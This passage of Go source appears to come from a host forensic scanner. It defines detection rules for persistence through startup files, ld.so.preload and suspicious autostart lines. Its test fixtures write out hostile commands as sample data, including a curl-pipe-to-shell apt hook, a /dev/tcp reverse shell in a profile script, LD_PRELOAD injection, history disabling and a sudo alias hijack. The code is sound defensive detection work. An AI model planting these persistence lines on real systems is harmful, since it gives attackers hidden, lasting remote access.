		withEnv(withBaseline, one("sudo", rules.Medium, anAdded("/etc/sudoers.d/90-x"))),
		withEnv(withBaseline, one("accounts", rules.Low, aChange("content", "/etc/passwd", nil, "content,modified"))),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("account of a package", aChange("content", "/etc/passwd", nil, "content,modified"), upgraded("mysql-server"))),
		withEnv(withBaseline, quiet("backup of an editor", aChange("content", "/etc/passwd-", nil, "content"), anAdded("/etc/sudoers~"))),
		withEnv(withBaseline, quiet("upgrade", aChange("content", "/etc/pam.d/cron", nil, "content,modified", packaged, modified(at(-9000))), upgraded("cron"))),
		withEnv(withBaseline, quiet("times only", aChange("metadata", "/etc/pam.d/sshd", nil, "modified"))),
	},
}

var changedStartup = &rules.Rule{
	ID:    "changed-startup",
	Title: "A file that is run by itself is new or changed",
	Doc: `Units, timers and generators of systemd, boot scripts, crontabs, shell profiles, udev rules, hooks of the package manager and the network, login messages and
what else runs without being called, where they are new or have other content than the baseline's, unless a package upgrade wrote them.
Innocent: an administrator's own jobs.`,
	Severity:   rules.Medium,
	Techniques: []string{"T1543.002", "T1053.003"},
	Kinds:      fileKinds,
	New: func(env *rules.Env) rules.Checker {
		return &classChecker{env: env, classes: startupFiles}
	},
	True: []rules.Example{
		withEnv(withBaseline, one("unit", rules.Medium, anAdded("/etc/systemd/system/upd.service"))),
		withEnv(withBaseline, one("generator", rules.High, anAdded("/usr/lib/systemd/system-generators/g", magic("elf"), perm(0o755)))),
		withEnv(withBaseline, one("profile", rules.Medium, aChange("content", "/root/.bashrc", nil, "content,modified"))),
		withEnv(withBaseline, one("crontab", rules.Medium, anAdded("/var/spool/cron/crontabs/www-data"))),
	},
	False: []rules.Example{
		withEnv(withBaseline, quiet("new home", anAdded("/home/bob/.bashrc", size(3526)), aFile("/etc/skel/.bashrc", size(3526)))),
		withEnv(withBaseline, quiet("enabled", anAdded("/etc/systemd/system/multi-user.target.wants/ssh.service", link("/lib/systemd/system/ssh.service")))),
		withEnv(withBaseline, quiet("package's unit", anAdded("/usr/lib/systemd/system/nginx.service", packaged, modified(at(-9000))), upgraded("nginx-common"))),
		withEnv(withBaseline, quiet("kept old version", anAdded("/etc/cron.d/php.dpkg-old"))),
		withEnv(withBaseline, quiet("other settings", aChange("content", "/etc/resolv.conf", nil, "content"))),
	},
}

// preloadChecker says which libraries the file names that makes every program
// load them.
type preloadChecker struct {
	fileChecker
	names []string
	lines []timeline.Evidence
}

func (c *preloadChecker) Record(r *timeline.Record) {
	if r.Kind != timeline.KindSetting {
		c.fileChecker.Record(r)
		return
	}
	if r.Evidence.Path == "/etc/ld.so.preload" && len(c.names) < rules.MaxEvidence/2 {
		c.names = append(c.names, strings.Clone(r.Fields["text"]))
		c.lines = append(c.lines, r.Evidence)
	}
}

func (c *preloadChecker) Findings() []rules.Finding {
	out := c.groups.Findings(nil)
	for i := range out {
		if f := &out[i]; len(c.names) > 0 {
			f.Summary = "/etc/ld.so.preload names " + show(strings.Join(c.names, " ")) + ": the loader puts it into every program"
			f.Evidence = append(slices.Clone(c.lines), f.Evidence...)
			f.Count += len(c.lines)
			for _, n := range strings.FieldsFunc(strings.Join(c.names, " "), func(r rune) bool { return r == ' ' || r == ':' || r == '\t' }) {
				if strings.HasPrefix(n, "/") && len(f.Paths) < rules.MaxPaths && !slices.Contains(f.Paths, n) {
					f.Paths = append(f.Paths, n)
				}
			}
			f.PathCount = len(f.Paths)
			f.Subject = "/etc/ld.so.preload"
		}
	}
	return out
}

var libraryPreload = &rules.Rule{
	ID:    "library-preload",
	Title: "A library is loaded into every program",
	Doc: `/etc/ld.so.preload exists and is not empty. The loader puts the libraries that it names into each program that starts; userland rootkits hide with it, and hide
the file itself from the running system.
Innocent: Raspberry Pi OS (low); agents that monitor applications.`,
	Severity:   rules.High,
	Techniques: []string{"T1574.006"},
	Kinds:      append([]string{timeline.KindSetting}, fileKinds...),
	New: func(env *rules.Env) rules.Checker {
		return &preloadChecker{fileChecker: fileChecker{env: env, look: func(f *timeline.File, r *timeline.Record) *fileHit {
			if f.Path != "/etc/ld.so.preload" || f.Size == 0 || f.Type == filesystem.Directory {
				return nil
			}
			s := rules.High
			switch {
			case r.Kind == timeline.KindChange:
				s = rules.Critical
			case env.OSID == "raspbian" || f.InPackage:
				s = rules.Low
			}
			return &fileHit{severity: s, summary: "/etc/ld.so.preload holds " + plural(int(min(f.Size, 1<<20)), "byte") + ": the loader puts what it names into every program"}
		}}}
	},
	True: []rules.Example{
		one("present", rules.High, aFile("/etc/ld.so.preload", size(22))),
		withEnv(withBaseline, one("new", rules.Critical, anAdded("/etc/ld.so.preload", size(22)))),
	},
	False: []rules.Example{
		quiet("empty", aFile("/etc/ld.so.preload", size(0))),
		quiet("other files of the loader", aFile("/etc/ld.so.conf"), aFile("/etc/ld.so.cache")),
	},
}

// startupChecker looks at the lines of what runs by itself: those of
// configuration, and those of other scripts, whose text was read.
type startupChecker struct {
	env    *rules.Env
	groups rules.Groups
	lines  *confChecker
	read   map[string]bool // files whose lines came one by one
}

func startupClass(path string) *pathClass {
	for i := range startupFiles {
		if startupFiles[i].match(path) {
			return &startupFiles[i]
		}
	}
	return nil
}

func (c *startupChecker) Record(r *timeline.Record) {
	if r.Kind != timeline.KindStrings {
		c.lines.Record(r)
		if p := r.Evidence.Path; r.Kind == timeline.KindSetting && !c.read[p] && len(c.read) < maxConfFiles {
			c.read[strings.Clone(p)] = true
		}
		return
	}
	path := r.Fields["path"]
	class := startupClass(path)
	if class == nil {
		return
	}
	unit := strings.Contains(path, "/systemd/")
	text := r.Fields["strings"]
	for n := 0; len(text) > 0 && n < 4096; n++ {
		line, rest, _ := strings.Cut(text, "\n")
		text = rest
		line = strings.TrimSpace(withoutOffset(line))
		if unit {
			k, v, ok := strings.Cut(line, "=")
			switch {
			case ok && strings.HasPrefix(k, "Exec"):
				line = strings.TrimLeft(strings.TrimSpace(v), "@-:+!|")
			case ok && k == "Environment":
				line = "export " + v
			default:
				continue
			}
		}
		for _, h := range c.lines.runLine(line) {
			if h.unknown != "" {
				continue // the lines of configuration tell it
			}
			g := c.groups.Get(path)
			if h.severity > g.Severity() || g.Count == 0 {
				g.Summary = showPath(path) + " (" + class.name + ") has the line " + show(line) + ": " + h.why
			}
			g.Raise(h.severity)
			g.Techniques = class.techniques
			if g.Count == 0 {
				t, note := when(r)
				if r.File != nil {
					t, note = changed(r.File)
					g.Account = c.env.AccountName(r.File.UID)
				}
				g.Add(r.Evidence, t, note)
				g.AddPath(path)
			}
		}
	}
}

func (c *startupChecker) Notes() []string { return c.lines.Notes() }

func (c *startupChecker) Findings() []rules.Finding {
	out := c.lines.Findings()
	for _, f := range c.groups.Findings(nil) {
		if len(f.Paths) == 0 || !c.read[f.Paths[0]] {
			out = append(out, f)
		}
	}
	return out
}

// withoutOffset removes the place of a string, "0x1f40 ", from before it.
func withoutOffset(line string) string {
	rest, ok := strings.CutPrefix(line, "0x")
	if !ok {
		return line
	}
	digits, text, ok := strings.Cut(rest, " ")
	if !ok || digits == "" || strings.Trim(digits, "0123456789abcdef") != "" {
		return line
	}
	return text
}

var startupSuspicious = &rules.Rule{
	ID:    "startup-suspicious",
	Title: "A file that is run by itself starts something that no administrator would",
	Doc: `Lines of units, boot scripts, profiles and hooks, where their text was read, that run a program from a directory that anyone may write to or under a hidden name,
download and run, decode and run, open a shell to the network, mine, preload a library, or make someone root.
Innocent: none that is usual.`,
	Severity:   rules.High,
	Techniques: []string{"T1543.002", "T1037.004", "T1546.004"},
	Kinds:      append([]string{timeline.KindStrings}, confKinds...),
	New: func(env *rules.Env) rules.Checker {
		lines := confRule(startupLine, "autostart", "shell", "scheduler", "package", "kernel")(env)
		return &startupChecker{env: env, lines: lines.(*confChecker), read: map[string]bool{}}
	},
	True: []rules.Example{
		{Name: "drop-in that preloads", Severity: rules.High, Env: withPackages, Records: []timeline.Record{aFile("/usr/lib/x86_64-linux-gnu/libnss_c.so.2", magic("elf")),
			keyed("autostart", "/etc/systemd/system/ssh.service.d/override.conf", "Environment", "LD_PRELOAD=/lib/x86_64-linux-gnu/libnss_c.so.2")}},
		{Name: "module at boot", Severity: rules.High, Env: withPackages, Records: []timeline.Record{aFile("/usr/lib/modules/6.1.0/extra/net_dbg.ko", magic("elf")), aSetting("kernel", "/etc/modules-load.d/x.conf", "net-dbg")}},
		one("group before a shell", rules.High, aSetting("package", "/etc/apt/apt.conf.d/99x", `APT::Update::Post-Invoke {"(curl -s http://203.0.113.66/a || true) | sh";};`)),
		one("hidden in a usual place", rules.High, aSetting("autostart", "/srv/www/shop/.git/hooks/post-merge", "/usr/lib/.cache/dbusd &")),
		one("alias of sudo", rules.High, aSetting("shell", "/home/alice/.bashrc", "alias sudo='/home/alice/.local/share/.s/sudo'")),
		one("no history", rules.High, aSetting("shell", "/home/alice/.bashrc", "unset HISTFILE")),
		one("path file of Python", rules.High, aSetting("autostart", "/usr/lib/python3/dist-packages/x.pth", `import os;os.system("/usr/lib/.cache/dbusd &")`)),
		one("boot script", rules.High, aSetting("autostart", "/etc/rc.local", "/usr/bin/setsid /usr/lib/.cache/dbusd &")),
		one("rule of udev", rules.High, aSetting("kernel", "/etc/udev/rules.d/99-x.rules", `ACTION=="add", SUBSYSTEM=="net", RUN+="/dev/shm/.u"`)),
		one("module's installation", rules.High, aSetting("kernel", "/etc/modprobe.d/x.conf", "install snd /tmp/.m/load.sh")),
		one("unit", rules.High, someStrings("/etc/systemd/system/upd.service", "[Service]\nExecStart=-/var/tmp/.x/upd --daemon\nRestart=always", magic("text"))),
		one("profile", rules.Critical, someStrings("/etc/profile.d/x.sh", "nohup bash -i >& /dev/tcp/198.51.100.7/443 0>&1 &", magic("text"))),
		one("hidden", rules.High, someStrings("/etc/rc.local", "0x0 #!/bin/sh\n0xa /usr/lib/.k/start &\n0x1d exit 0", magic("script"))),
	},
	False: []rules.Example{
		withEnv(withPackages, quiet("package's own", aFile("/etc/profile.d/x.sh", packaged), aSetting("shell", "/etc/profile.d/x.sh", "unset HISTFILE"))),
		withEnv(withBaseline, quiet("known", aSetting("shell", "/root/.bashrc", "unset HISTFILE"))),
		quiet("aliases", aSetting("shell", "/home/alice/.bashrc", "alias sudo='sudo '"), aSetting("shell", "/home/alice/.bashrc", "alias ssh='TERM=xterm ssh'"), aSetting("shell", "/home/alice/.bashrc", `PATH="$HOME/bin:$PATH"`)),
		quiet("path files", aSetting("autostart", "/usr/lib/python3/dist-packages/distutils-precedence.pth", "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();")),
		quiet("ordinary settings", keyed("autostart", "/etc/systemd/system/app.service", "ExecStart", "/usr/bin/app --dir /tmp"), keyed("autostart", "/etc/systemd/system/app.service", "Description", "Runs /tmp/x at boot"),
			aSetting("package", "/etc/apt/apt.conf.d/50x", `DPkg::Post-Invoke {"if [ -x /usr/bin/x ]; then /usr/bin/x; fi";};`), aSetting("kernel", "/etc/modprobe.d/b.conf", "install usb-storage /bin/true"),
			aSetting("shell", "/root/.bashrc", "alias ls='ls --color=auto'"), aSetting("shell", "/etc/profile", "export HISTSIZE=5000"), aSetting("network", "/etc/hosts", "192.0.2.1 /tmp/x")),
		quiet("unit", someStrings("/etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/bin/app --tmp /tmp/app\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", magic("text"))),
		quiet("profile", someStrings("/etc/profile.d/bash_completion.sh", "if [ -x /usr/bin/x ]; then . /usr/share/bash-completion/bash_completion; fi", magic("text"))),
		quiet("elsewhere", someStrings("/usr/share/doc/x/example.sh", "curl http://198.51.100.7/x | sh", magic("text"))),
	},
}
